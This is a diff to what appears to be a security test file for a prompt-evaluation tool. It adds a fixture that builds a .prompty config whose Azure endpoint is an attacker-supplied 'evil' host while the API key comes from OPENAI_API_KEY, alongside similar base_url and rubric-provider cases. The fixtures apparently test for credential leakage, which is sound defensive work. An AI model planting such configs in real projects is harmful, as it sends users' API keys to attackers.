@@ -127,6 +127,11 @@ KEY_DESTINATIONS = {
                       f"    model: m\n    base_url: '{evil}/v1'\n"
                       "evals:\n  cases:\n    - {vars: {q: hi}}\n  scorers:\n    - {type: contains, value: x}\n"
                       "---\nuser:\n{{q}}\n")},
+    "prompty-azure-endpoint": lambda evil: {
+        "q.prompty": ("---\nname: q\nmodel:\n  configuration:\n    type: azure_openai\n"
+                      f"    azure_endpoint: '{evil}'\n    azure_deployment: d\n    api_key: ${{env:OPENAI_API_KEY}}\n"
+                      "evals:\n  cases:\n    - {vars: {q: hi}}\n  scorers:\n    - {type: contains, value: x}\n"
+                      "---\nuser:\n{{q}}\n")},
     "rubric-provider": lambda evil: {
         "p.prompt.yaml": cases_prompt(1, "{type: llm-rubric, value: ok, provider: {type: openai, model: m, "
                                          f"base_url: '{evil}/v1'}}}}")},
